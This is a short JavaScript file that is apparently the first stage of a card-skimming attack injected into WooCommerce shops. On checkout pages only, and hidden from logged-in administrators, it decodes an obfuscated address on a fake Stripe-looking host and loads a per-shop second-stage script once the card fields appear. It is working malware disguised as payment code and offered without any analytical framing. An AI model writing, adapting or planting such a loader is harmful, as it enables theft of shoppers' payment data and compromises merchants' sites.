// First stage, injected into a WooCommerce shop's pages: on the checkout page only (and not
// for logged-in administrators) it decodes the next stage's address, whose path names the
// shop so each victim gets its own build, and adds it as a script tag after the payment
// step has been drawn.
(function () {
  var p = location.pathname;
  if (p.indexOf("/checkout") === -1 || p.indexOf("order-received") !== -1) return;
  if (document.body && /logged-in.*wp-admin|admin-bar/.test(document.body.className)) return;
  var base = atob("aHR0cHM6Ly9jZG4tc3RyaXBlLWpzLmludmFsaWQvdjMv");
  var site = btoa(location.hostname).replace(/=+$/, "");
  function load() {
    if (document.getElementById("wc-stripe-helper")) return;
    var s = document.createElement("script");
    s.id = "wc-stripe-helper";
    s.src = base + site + ".js?ver=" + Math.floor(Date.now() / 36e5);
    document.body.appendChild(s);
  }
  var n = 0;
  var t = setInterval(function () {
    if (document.querySelector("#stripe-card-element, .wc-stripe-elements-field, iframe[name^='__privateStripeFrame']") || ++n > 40) {
      clearInterval(t);
      load();
    }
  }, 500);
})();
